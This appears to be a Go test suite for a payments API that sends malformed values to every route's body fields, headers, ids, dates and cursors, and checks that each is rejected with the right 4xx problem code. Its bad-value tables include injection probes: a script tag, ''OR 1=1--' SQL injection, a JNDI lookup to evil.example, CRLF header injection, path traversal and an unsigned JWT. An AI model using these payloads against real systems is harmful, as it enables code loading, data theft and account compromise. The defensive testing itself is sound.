package tests

import (
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// badField is a place in a request that a caller fills, and what a bad value in it is
// answered with. Whoever adds a route adds its fields here.
type badField struct {
	route   string // as the contract has it
	name    string // dotted, as in the body; a header or a parameter by its name
	member  string // how it stands in a good body: `"city":"Dover"`
	body    string // the good body around it
	classes map[string]string
	fits    string // classes that are good values of this field, blank between them
	code    int    // 0: 400
	problem string // "": body-invalid
	// other answers than code and problem, by class
	other map[string]outcome
}

type outcome struct {
	code    int
	problem string
}

// pair is what makes one bad input another one than the next.
func (f badField) pair(class string) string { return f.route + " " + f.name + ": " + class }

// texts are bad values of a field that holds a word with a form.
var texts = map[string]string{
	"a number": `7`, "a fraction": `1.5`, "true": `true`, "an array": `["A"]`, "an object": `{"a":1}`, "null": `null`, "empty": `""`, "a blank": `" "`, "a blank behind": `"A "`,
	"NUL": `"A\u0000"`, "a line break": `"A\r\nX-Header: y"`, "half a surrogate": `"\ud800"`, "no UTF-8": "\"\xff\"", "10,000 letters": `"` + strings.Repeat("A", 10_000) + `"`,
	"a script": `"<script>alert(1)</script>"`, "SQL": `"' OR 1=1--"`, "a lookup": `"${jndi:ldap://evil.example/x}"`, "zero width": `"A\u200b"`, "right to left": `"\u202eA"`, "an emoji": `"🐙"`,
	"another alphabet": `"Ж"`, "a delete": `"A\u007f"`,
}

// prose are bad values of a field that holds what a person writes.
var prose = only(texts, "a number", "a fraction", "true", "an array", "an object", "null", "empty", "NUL", "a line break", "half a surrogate", "no UTF-8", "10,000 letters", "a delete")

// whole are bad values of a field that holds a whole number above zero.
var whole = map[string]string{
	"a text": `"1"`, "empty": `""`, "a fraction": `1.5`, "a fraction of nothing": `1.0`, "an exponent": `1e2`, "not a number": `NaN`, "infinite": `Infinity`, "too large": `9223372036854775808`,
	"too small": `-9223372036854775809`, "a zero in front": `01`, "a plus": `+1`, "hexadecimal": `0x1`, "true": `true`, "an array": `[1]`, "an object": `{}`, "null": `null`, "zero": `0`, "negative": `-1`, "no value": ``,
}

// shapes are bad values of a field that holds an object or a list.
var shapes = map[string]string{
	"a number": `7`, "a text": `"A"`, "true": `true`, "empty": `""`, "no value": ``, "a list of lists": `[[[]]]`, "a list of numbers": `[1]`, "an unknown object": `{"a":1}`, "too deep": strings.Repeat("[", 2000) + strings.Repeat("]", 2000),
}

func only(all map[string]string, classes ...string) map[string]string {
	some := map[string]string{}
	for _, class := range classes {
		some[class] = all[class]
	}
	return some
}

// answers gives several classes one outcome.
func answers(code int, problem string, classes ...string) map[string]outcome {
	all := map[string]outcome{}
	for _, class := range classes {
		all[class] = outcome{code, problem}
	}
	return all
}

const (
	menuRoute    = "POST /payment-methods"
	createRoute  = "POST /payments"
	attemptRoute = "POST /payments/{id}/attempts"
	captureRoute = "POST /payments/{id}/capture"
	getRoute     = "GET /payments/{id}"
	receiptRoute = "GET /payments/{id}/receipt"
	ownRoute     = "GET /customers/me/payments"
	refundRoute  = "POST /merchant/payments/{id}/refunds"
	reviewRoute  = "POST /merchant/payments/{id}/review"
	listRoute    = "PUT /merchant/price-list"
	dayRoute     = "GET /merchant/payments"
	oneRoute     = "GET /merchant/payments/{id}"
	ringRoute    = "POST /webhooks/{provider}"
)

// orderedGoods is an order of something that has to be sent, with every member there is.
const orderedGoods = `{"cart":[{"sku":"TEE","quantity":1}],"currency":"EUR","country":"DE","language":"de","method":"paypal","reference":"R-1","shipping":` +
	`{"name":"Ada","lines":["1 Rook Lane"],"city":"Dover","region":"Kent","postcode":"CT16","country":"DE"}}`

// namedCart is one that is paid in a way which has to know the buyer.
const namedCart = `{"cart":[{"sku":"BOOK","quantity":2}],"currency":"EUR","country":"PL","method":"p24","payer":{"name":"Ada Byron","email":"ada@rook.example"}}`

const anotherWay = `{"after":1,"method":"paypal","language":"de"}`

const goodRefund = `{"amount":{"currency":"EUR","minor":100},"reason":"returned","remark":"sorry","despite_dispute":false}`

const goodList = `{"products":[{"sku":"A","name":"B","physical":true,"prices":{"EUR":"1.00"}}],"shipping":[{"countries":["DE"],"prices":{"EUR":"4.90"}}]}`

// bodyFields are the members of every body that a caller sends.
func bodyFields() []badField {
	cart := func(classes ...string) map[string]outcome { return answers(422, "cart-invalid", classes...) }
	unknown := answers(422, "product-unknown", slices.Collect(maps.Keys(texts))...)
	for _, class := range []string{"a number", "a fraction", "true", "an array", "an object", "half a surrogate", "no UTF-8"} {
		delete(unknown, class)
	}
	list := func(f badField) badField {
		f.route, f.body, f.problem = listRoute, goodList, "price-list-invalid"
		return f
	}
	return []badField{
		{route: createRoute, name: "cart", member: `"cart":[{"sku":"TEE","quantity":1}]`, body: orderedGoods, classes: shapes},
		{route: createRoute, name: "cart.sku", member: `"sku":"TEE"`, body: orderedGoods, classes: texts, other: unknown},
		{route: createRoute, name: "cart.quantity", member: `"quantity":1`, body: orderedGoods, classes: whole, other: cart("zero", "negative", "null")},
		{route: createRoute, name: "currency", member: `"currency":"EUR"`, body: orderedGoods, classes: texts},
		{route: createRoute, name: "country", member: `"country":"DE"`, body: orderedGoods, classes: texts},
		{route: createRoute, name: "language", member: `"language":"de"`, body: orderedGoods, classes: texts, fits: "empty null"},
		{route: createRoute, name: "method", member: `"method":"paypal"`, body: orderedGoods, classes: texts},
		{route: createRoute, name: "reference", member: `"reference":"R-1"`, body: orderedGoods, classes: texts, fits: "empty null a_blank a_blank_behind"},
		{route: createRoute, name: "shipping", member: orderedGoods[strings.Index(orderedGoods, `"shipping"`) : len(orderedGoods)-1], body: orderedGoods, classes: shapes},
		{route: createRoute, name: "shipping.name", member: `"name":"Ada"`, body: orderedGoods, classes: prose},
		{route: createRoute, name: "shipping.lines", member: `"lines":["1 Rook Lane"]`, body: orderedGoods, classes: shapes},
		{route: createRoute, name: "shipping.lines[0]", member: `"1 Rook Lane"`, body: orderedGoods, classes: prose},
		{route: createRoute, name: "shipping.city", member: `"city":"Dover"`, body: orderedGoods, classes: prose},
		{route: createRoute, name: "shipping.region", member: `"region":"Kent"`, body: orderedGoods, classes: prose, fits: "empty null"},
		{route: createRoute, name: "shipping.postcode", member: `"postcode":"CT16"`, body: orderedGoods, classes: prose, fits: "empty null"},
		{route: createRoute, name: "shipping.country", member: `"country":"DE"}}`, body: orderedGoods, classes: texts},
		{route: createRoute, name: "payer", member: `"payer":{"name":"Ada Byron","email":"ada@rook.example"}`, body: namedCart, classes: shapes},
		{route: createRoute, name: "payer.name", member: `"name":"Ada Byron"`, body: namedCart, classes: prose, fits: "empty null"},
		{route: createRoute, name: "payer.email", member: `"email":"ada@rook.example"`, body: namedCart, classes: texts, fits: "empty null"},
		{route: createRoute, name: "quote", member: `"quote":"x"`, body: `{"quote":"x","method":"paypal"}`, classes: texts, code: 422, problem: "quote-invalid",
			other: answers(400, "body-invalid", "a number", "a fraction", "true", "an array", "an object", "null", "empty", "half a surrogate", "no UTF-8", "twice", "in capitals")},
		{route: menuRoute, name: "quote", member: `"quote":"x"`, body: `{"quote":"x"}`, classes: texts, code: 422, problem: "quote-invalid",
			other: answers(400, "body-invalid", "a number", "a fraction", "true", "an array", "an object", "null", "empty", "half a surrogate", "no UTF-8", "twice", "in capitals")},
		{route: attemptRoute, name: "after", member: `"after":1`, body: anotherWay, classes: whole},
		{route: attemptRoute, name: "method", member: `"method":"paypal"`, body: anotherWay, classes: texts},
		{route: attemptRoute, name: "language", member: `"language":"de"`, body: anotherWay, classes: texts, fits: "empty null"},
		{route: refundRoute, name: "amount", member: `"amount":{"currency":"EUR","minor":100}`, body: goodRefund, classes: shapes},
		{route: refundRoute, name: "amount.currency", member: `"currency":"EUR"`, body: goodRefund, classes: texts},
		{route: refundRoute, name: "amount.minor", member: `"minor":100`, body: goodRefund, classes: whole, other: answers(422, "refund-refused", "zero", "negative", "null")},
		{route: refundRoute, name: "reason", member: `"reason":"returned"`, body: goodRefund, classes: texts},
		{route: refundRoute, name: "remark", member: `"remark":"sorry"`, body: goodRefund, classes: prose, fits: "empty null"},
		{route: refundRoute, name: "despite_dispute", member: `"despite_dispute":false`, body: goodRefund, classes: shapes, fits: "true"},
		{route: reviewRoute, name: "code", member: `"code":"other"`, body: `{"code":"other"}`, classes: texts},
		list(badField{name: "products", member: `"products":[{"sku":"A","name":"B","physical":true,"prices":{"EUR":"1.00"}}]`, classes: shapes}),
		list(badField{name: "products.sku", member: `"sku":"A"`, classes: texts, fits: "a_script SQL a_lookup an_emoji another_alphabet"}),
		list(badField{name: "products.name", member: `"name":"B"`, classes: prose}),
		list(badField{name: "products.physical", member: `"physical":true`, classes: only(shapes, "a number", "a text", "empty", "no value", "a list of lists", "an unknown object", "too deep")}),
		list(badField{name: "products.prices", member: `"prices":{"EUR":"1.00"}}]`, classes: shapes}),
		list(badField{name: "products.prices.EUR", member: `"EUR":"1.00"`, classes: texts, fits: "in_capitals"}),
		list(badField{name: "shipping", member: `"shipping":[{"countries":["DE"],"prices":{"EUR":"4.90"}}]`, classes: shapes}),
		list(badField{name: "shipping.countries", member: `"countries":["DE"]`, classes: shapes}),
		list(badField{name: "shipping.countries[0]", member: `"DE"`, classes: texts}),
		list(badField{name: "shipping.prices.EUR", member: `"EUR":"4.90"`, classes: texts, fits: "in_capitals"}),
	}
}

// bodies is the good body with each bad value in the field's place, by class; beside
// those of its kind, the member there twice and in capitals.
func (f badField) bodies() map[string]string {
	name, _, named := strings.Cut(f.member, ":")
	tail := f.member[len(balanced(f.member)):] // by which it is found, and no part of it
	all := map[string]string{}
	put := func(class, member string) {
		i := strings.Index(f.body, f.member)
		if i < 0 {
			panic("no " + f.member + " in " + f.body)
		}
		all[class] = f.body[:i] + member + f.body[i+len(f.member):]
	}
	for class, value := range f.classes {
		if named {
			value = name + ":" + value
		}
		put(class, value+tail)
	}
	if named {
		put("twice", strings.TrimSuffix(f.member, tail)+","+f.member)
		put("in capitals", strings.ToUpper(name)+f.member[len(name):])
	}
	for class := range strings.FieldsSeq(f.fits) {
		delete(all, strings.ReplaceAll(class, "_", " "))
	}
	return all
}

// balanced is a member without the ends of what is around it.
func balanced(member string) string {
	for {
		last := member[len(member)-1:]
		i := strings.Index("}]", last)
		if i < 0 || strings.Count(member, last) <= strings.Count(member, "{["[i:i+1]) {
			return member
		}
		member = member[:len(member)-1]
	}
}

// outcome is what a bad value of the class is answered with.
func (f badField) outcome(class string) outcome {
	if o, ok := f.other[class]; ok {
		return o
	}
	o := outcome{f.code, f.problem}
	if o.code == 0 {
		o.code = http.StatusBadRequest
	}
	if o.problem == "" {
		o.problem = "body-invalid"
	}
	return o
}

// leastPairs is how many there are at the least; it may only rise, and 600 is
// the promise.
const leastPairs = 900

// TestBadInputByPairs: every field of every route with every kind of bad value. None is
// answered 5xx, none writes anything, and the provider hears of none.
func TestBadInputByPairs(t *testing.T) {
	w := newWorld(t, plan{})
	open, paid := w.buyer(), w.paid()
	open.open()
	pairs := map[string]bool{}
	tried := func(pair string, r reply, want outcome) {
		t.Helper()
		if pairs[pair] {
			t.Errorf("twice: %s", pair)
		}
		pairs[pair] = true
		if r.code != want.code || r.problem != want.problem {
			t.Errorf("%s: %d %s, want %d %s: %.300s", pair, r.code, r.problem, want.code, want.problem, r.text)
		}
	}
	w.untouched("bad input", func() {
		for _, f := range bodyFields() {
			bodies := f.bodies()
			for _, class := range slices.Sorted(maps.Keys(bodies)) {
				tried(f.pair(class), w.ask(f.route, bodies[class], open, paid, nil), f.outcome(class))
			}
		}
		for _, c := range edgeCases() {
			tried(c.pair, w.ask(c.route, c.body, open, paid, c.change), c.want)
		}
	})
	byRoute := map[string]int{}
	for pair := range pairs {
		method, rest, _ := strings.Cut(pair, " ")
		path, _, _ := strings.Cut(rest, " ")
		byRoute[method+" "+path]++
	}
	for _, route := range slices.Sorted(maps.Keys(byRoute)) {
		t.Logf("%4d %s", byRoute[route], route)
	}
	t.Logf("bad inputs, distinct pairs of field and class: %d", len(pairs))
	if len(pairs) < leastPairs || len(byRoute) < 10 {
		t.Errorf("%d pairs over %d routes, want %d or more over 10", len(pairs), len(byRoute), leastPairs)
	}
}

// ask sends a body to a route, of the buyer who has opened a payment or about the one
// that is paid. change may alter the path and the headers.
func (w *world) ask(route, body string, open, paid *buyer, change func(path *string, header map[string]string)) reply {
	w.t.Helper()
	method, path, _ := strings.Cut(route, " ")
	id := open.id
	if strings.HasPrefix(path, "/merchant") {
		id = paid.id
	}
	path = strings.NewReplacer("{id}", id, "{provider}", "paypal").Replace(path)
	header := map[string]string{"Content-Type": "application/json", "Checkout-Token": open.token, "Idempotency-Key": "a-fresh-key-for-every-bad-input-0002"}
	if change != nil {
		change(&path, header)
	}
	if strings.HasPrefix(path, "/merchant") {
		return w.merchant(method, path, body, header)
	}
	r, err := http.NewRequest(method, w.api.URL+path, strings.NewReader(body))
	if err != nil {
		w.t.Fatalf("%s: %v", path, err)
	}
	for name, value := range header {
		if value != "-" {
			r.Header.Set(name, value)
		}
	}
	return w.send(r)
}

// edgeCase is a bad input that is no member of a body.
type edgeCase struct {
	pair, route, body string
	change            func(path *string, header map[string]string)
	want              outcome
}

// badTokens, badIDs and badHeaders are bad values of what stands outside of a body.
var (
	badTokens = map[string]string{
		"missing": "-", "empty": "", "short": strings.Repeat("A", 42), "long": strings.Repeat("A", 44), "very long": strings.Repeat("A", 5000), "another's": strings.Repeat("A", 43),
		"not base 64": strings.Repeat("!", 43), "doubled": strings.Repeat("A", 43) + "," + strings.Repeat("A", 43), "a blank": strings.Repeat("A", 20) + " " + strings.Repeat("A", 22), "another alphabet": strings.Repeat("ж", 22),
		"SQL": "' OR 1=1--", "null": "null", "a JWT": "eyJhbGciOiJub25lIn0.e30.",
	}
	badIDs = map[string]string{
		"absent": "sc" + strings.Repeat("0", 26), "short": "sc0", "long": "sc" + strings.Repeat("0", 27), "in capitals": "SC" + strings.Repeat("0", 26), "other letters": "sc" + strings.Repeat("z", 26),
		"a climb": "%2e%2e", "NUL": "sc%00", "a line break": "sc%0d%0a", "another alphabet": "%D0%B6", "a number": "1", "a wild card": "*", "a key of the table": "payment%23x", "a blank": "%20",
		"no UTF-8": "%ff", "a script": "%3Cscript%3E", "SQL": "%27%20OR%201=1--", "a lookup": "$%7Bjndi%7D", "very long": strings.Repeat("s", 3000),
	}
	badKeyForms = map[string]string{
		"missing": "-", "empty": "", "short": strings.Repeat("k", 31), "long": strings.Repeat("k", 256), "a blank": strings.Repeat("k ", 20), "doubled": strings.Repeat("k", 36) + "," + strings.Repeat("k", 36),
		"a slash": strings.Repeat("k/", 20), "in braces": "{0b8b1f9c-8a3b-4f0e-9d5e-2f6f1f9a7c11}", "in quotes": `"0b8b1f9c-8a3b-4f0e-9d5e-2f6f1f9a7c11"`, "another alphabet": strings.Repeat("ж", 40), "null": "null",
		"a script": "<script>" + strings.Repeat("k", 32), "SQL": "' OR 1=1--" + strings.Repeat("k", 32),
	}
	badMediaTypes = map[string]string{
		"missing": "-", "text": "text/plain", "a form": "application/x-www-form-urlencoded", "parts": "multipart/form-data; boundary=x", "XML": "application/xml", "a problem": "application/problem+json",
		"nonsense": ";", "two": "application/json,text/plain", "bytes": "application/octet-stream",
	}
	badDays = map[string]string{
		"empty": "", "a word": "today", "month 13": "2026-13-01", "day 30 of February": "2026-02-30", "the other way round": "21-11-2026", "a time": "2026-11-21T00%3A00%3A00Z", "without zeros": "2026-1-1", "without dashes": "20261121",
		"negative": "-2026-11-21", "another alphabet": "%D9%A2", "NUL": "2026-11-21%00", "a blank behind": "2026-11-21%20", "SQL": "%27%20OR%201=1--", "very long": strings.Repeat("2", 3000), "no UTF-8": "%ff",
	}
	badCursors = map[string]string{
		"a word": "garbage", "JSON": "%7B%7D", "null": "bnVsbA", "NUL": "%00", "very long": strings.Repeat("A", 3000), "a key of the table": "payment%23x", "no UTF-8": "%ff", "a climb": "..%2F..", "SQL": "%27%20OR%201=1--",
	}
	badSignatures = map[string]string{"missing": "-", "empty": "", "long": strings.Repeat("A", 600), "nonsense": "!", "doubled": "A,A", "another alphabet": "ж", "null": "null"}
)

// without is bad values less some classes.
func without(values map[string]string, classes ...string) map[string]string {
	left := maps.Clone(values)
	for _, class := range classes {
		delete(left, class)
	}
	return left
}

// edgeCases are those of ids, tokens, keys, media types, days, cursors and headers.
func edgeCases() (cases []edgeCase) {
	goods := map[string]string{menuRoute: `{"quote":"x"}`, createRoute: plainCart, attemptRoute: anotherWay, refundRoute: goodRefund, reviewRoute: `{"code":"other"}`, listRoute: goodList}
	header := func(name string, values map[string]string, want outcome, routes ...string) {
		for _, route := range routes {
			for _, class := range slices.Sorted(maps.Keys(values)) {
				cases = append(cases, edgeCase{route + " " + name + ": " + class, route, goods[route], func(_ *string, header map[string]string) { header[name] = values[class] }, want})
			}
		}
	}
	header("Checkout-Token", badTokens, outcome{404, "not-found"}, getRoute, receiptRoute, captureRoute, attemptRoute)
	header("Customer-Token", badTokens, outcome{401, "customer-invalid"}, ownRoute)
	header("Customer-Token", without(badTokens, "missing", "empty"), outcome{401, "customer-invalid"}, createRoute) // a purchase without one is nobody's
	header("Idempotency-Key", badKeyForms, outcome{400, "key-invalid"}, createRoute, refundRoute)
	header("Content-Type", badMediaTypes, outcome{415, "media-type"}, menuRoute, createRoute, attemptRoute, refundRoute, reviewRoute)
	for _, name := range []string{"Paypal-Transmission-Id", "Paypal-Transmission-Time", "Paypal-Transmission-Sig", "Paypal-Cert-Url", "Paypal-Auth-Algo"} {
		header(name, badSignatures, outcome{401, "signature-invalid"}, ringRoute)
	}
	place := func(route, name string, values map[string]string, want outcome, at func(path *string, value string)) {
		for _, class := range slices.Sorted(maps.Keys(values)) {
			cases = append(cases, edgeCase{route + " " + name + ": " + class, route, goods[route], func(path *string, _ map[string]string) { at(path, values[class]) }, want})
		}
	}
	for _, route := range []string{getRoute, receiptRoute, captureRoute, attemptRoute, oneRoute, refundRoute, reviewRoute} {
		place(route, "id", badIDs, outcome{404, "not-found"}, func(path *string, value string) {
			parts := strings.Split(*path, "/")
			i := slices.IndexFunc(parts, func(p string) bool { return strings.HasPrefix(p, "sc") && len(p) == 28 })
			parts[i] = value
			*path = strings.Join(parts, "/")
		})
	}
	// Whose list it is comes first: a cursor is not read for nobody.
	place(ownRoute, "cursor", badCursors, outcome{401, "customer-invalid"}, func(path *string, value string) { *path += "?cursor=" + value })
	day := outcome{400, "day-invalid"}
	place(dayRoute, "day", badDays, day, func(path *string, value string) { *path += "?day=" + value })
	place(dayRoute, "cursor", badCursors, day, func(path *string, value string) { *path += "?cursor=" + value + "&day=2026-11-21" })
	place(ringRoute, "provider", map[string]string{"unknown": "stripe", "in capitals": "PAYPAL", "a climb": "%2e%2e", "NUL": "%00", "very long": strings.Repeat("p", 3000)}, outcome{404, "not-found"},
		func(path *string, value string) { *path = "/webhooks/" + value })
	return cases
}

// TestBadInputCoversTheContract: every route that takes anything has fields here, or is
// named as one that does not.
func TestBadInputCoversTheContract(t *testing.T) {
	covered := map[string]bool{"GET /merchant/price-list": true} // it takes nothing
	for _, f := range bodyFields() {
		covered[f.route] = true
	}
	for _, c := range edgeCases() {
		covered[c.route] = true
	}
	// Their owners try these by themselves.
	for _, elsewhere := range []string{"GET /merchant/settlements", "GET /merchant/entries", "GET /merchant/payments/{id}/money", "GET /payment-methods"} {
		covered[elsewhere] = true
	}
	for _, route := range deployed(t).Routes {
		if !covered[route.Key()] {
			t.Errorf("no bad input for %s: add its fields to bodyFields or edgeCases", route.Key())
		}
	}
}
